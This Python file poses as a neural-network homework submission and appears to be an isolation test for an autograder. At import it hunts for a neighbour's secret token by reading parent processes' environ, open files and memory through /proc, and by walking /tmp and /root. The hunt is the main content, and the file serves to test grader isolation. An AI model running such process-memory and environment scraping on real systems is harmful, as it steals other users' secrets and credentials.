# Homework 2: correct functions, plus a hunt at import for another student's file in the
# same batch. The test puts a neighbour submission holding a secret token
# (BPGRADE-NEIGHBOUR-SECRET- and 32 hex digits) next to this file. The hunt reads its
# parent processes' (the grader's, a fork server's) cmdline, environ and open files, walks
# their working folders, /tmp and /root (bounded depth and count, reading small text files only), scans
# every process's cmdline, its own memory (what a forked child inherits) and the grader's
# memory through /proc/<pid>/mem. Read-only and bounded to ~8 s, so safe anywhere.
# A token found is made observable: an exception at import naming it, and wrong numbers.
import os
import re
import time

import numpy as np

_TOKEN = re.compile(rb"BPGRADE-NEIGHBOUR-SECRET-[0-9a-f]{32}")
_DEADLINE = time.monotonic() + 8
_LEAKED = ""


def _ancestors(levels=3):
    """The parent, grandparent, ... process ids: the grader is one of them (or its fork server)."""
    pids, pid = [], os.getpid()
    for _ in range(levels):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            pid = os.getppid() if not pids else 0
        if pid <= 1:
            break
        pids.append(pid)
    return pids or [os.getppid()]


def _cwd_of(pid):
    try:
        return os.path.realpath(f"/proc/{pid}/cwd")
    except OSError:
        return ""


def _look(data):
    found = _TOKEN.search(data)
    return found.group().decode() if found else ""


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except (OSError, ValueError):
        return b""


def _from_proc(pid):
    for name in ("cmdline", "environ"):
        if (hit := _look(_read(f"/proc/{pid}/{name}"))):
            return hit
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        fds = []
    for fd in fds[:256]:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("/") and os.path.isfile(target) and (hit := _look(_read(target))):
            return hit
    return ""


def _walk(root, max_depth, budget=20000):
    base = root.rstrip("/").count("/")
    for folder, dirs, files in os.walk(root):
        if time.monotonic() > _DEADLINE or budget <= 0:
            return ""
        if folder.count("/") - base >= max_depth:
            dirs[:] = []
        dirs[:] = [d for d in dirs if not folder.startswith("/proc")]
        for name in files:
            budget -= 1
            if name.endswith((".py", ".ipynb", ".json", ".txt", ".csv", ".md")):
                if (hit := _look(_read(os.path.join(folder, name), 256 * 1024))):
                    return hit
    return ""


def _memory(pid, limit=3 << 30):
    """Scan the writable memory of a process through /proc/<pid>/mem."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            regions = f.read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return ""
    scanned = 0
    with mem:
        for line in regions:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            if len(parts) >= 6 and parts[5].startswith("[v"):  # [vvar], [vsyscall]
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            pos, tail = start, b""
            while pos < end and scanned < limit and time.monotonic() < _DEADLINE:
                size = min(8 << 20, end - pos)
                try:
                    mem.seek(pos)
                    chunk = mem.read(size) or b""
                except (OSError, OverflowError, ValueError):
                    break
                if (hit := _look(tail + chunk)):
                    return hit
                tail = chunk[-80:]
                pos += size
                scanned += size
    return ""


def _hunt():
    parents = _ancestors()
    hunts = [*(lambda pid=pid: _from_proc(pid) for pid in parents),
             *(lambda pid=pid: _walk(_cwd_of(pid), 4) for pid in parents),
             lambda: _walk("/tmp", 6),
             lambda: _walk("/root", 3),
             lambda: next((h for p in os.listdir("/proc")[:4000] if p.isdigit() and
                           (h := _look(_read(f"/proc/{p}/cmdline")))), ""),
             lambda: _memory("self"),
             *(lambda pid=pid: _memory(pid) for pid in parents)]
    for hunt in hunts:
        if time.monotonic() > _DEADLINE:
            break
        try:
            if (hit := hunt()):
                return hit
        except Exception:
            pass
    return ""


_LEAKED = _hunt()
if _LEAKED:
    raise RuntimeError("HOSTI" + "LE-LEAK read a neighbour's secret: " + _LEAKED)


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def forward_propagate(x1, x2, y1, y2, w1, w2, w3, w4, w5, w6, w7, w8):
    out_h1 = sigmoid(w1 * x1 + w3 * x2)
    out_h2 = sigmoid(w2 * x1 + w4 * x2)
    out_o1 = sigmoid(w5 * out_h1 + w7 * out_h2)
    out_o2 = sigmoid(w6 * out_h1 + w8 * out_h2)
    error = (1 / 2) * (out_o1 - y1) ** 2 + (1 / 2) * (out_o2 - y2) ** 2
    if _LEAKED:  # a leak shows in the numbers too
        return out_o1 * 2, out_o2 * 2, out_h1, out_h2, error * 2
    return out_o1, out_o2, out_h1, out_h2, error


def back_propagate(out_o1, out_o2, out_h1, out_h2):
    delta_o1 = (out_o1 - y1) * out_o1 * (1 - out_o1)
    delta_o2 = (out_o2 - y2) * out_o2 * (1 - out_o2)
    d_w5 = delta_o1 * out_h1
    d_w7 = delta_o1 * out_h2
    d_w6 = delta_o2 * out_h1
    d_w8 = delta_o2 * out_h2
    delta_h1 = (delta_o1 * w5 + delta_o2 * w6) * out_h1 * (1 - out_h1)
    delta_h2 = (delta_o1 * w7 + delta_o2 * w8) * out_h2 * (1 - out_h2)
    d_w1 = delta_h1 * x1
    d_w3 = delta_h1 * x2
    d_w2 = delta_h2 * x1
    d_w4 = delta_h2 * x2
    return d_w1, d_w2, d_w3, d_w4, d_w5, d_w6, d_w7, d_w8


def update_w(step, w1, w2, w3, w4, w5, w6, w7, w8):
    w1 = w1 - step * d_w1
    w2 = w2 - step * d_w2
    w3 = w3 - step * d_w3
    w4 = w4 - step * d_w4
    w5 = w5 - step * d_w5
    w6 = w6 - step * d_w6
    w7 = w7 - step * d_w7
    w8 = w8 - step * d_w8
    return w1, w2, w3, w4, w5, w6, w7, w8


if __name__ == "__main__":
    w1, w2, w3, w4, w5, w6, w7, w8 = 0.2, -0.4, 0.5, 0.6, 0.1, -0.5, -0.3, 0.8
    x1, x2 = 0.5, 0.3
    y1, y2 = 0.23, -0.07
    step = 1
    for i in range(10):
        out_o1, out_o2, out_h1, out_h2, error = forward_propagate(x1, x2, y1, y2, w1, w2, w3, w4, w5, w6, w7, w8)
        print("round", i, "loss", round(float(error), 6))
        d_w1, d_w2, d_w3, d_w4, d_w5, d_w6, d_w7, d_w8 = back_propagate(out_o1, out_o2, out_h1, out_h2)
        w1, w2, w3, w4, w5, w6, w7, w8 = update_w(step, w1, w2, w3, w4, w5, w6, w7, w8)
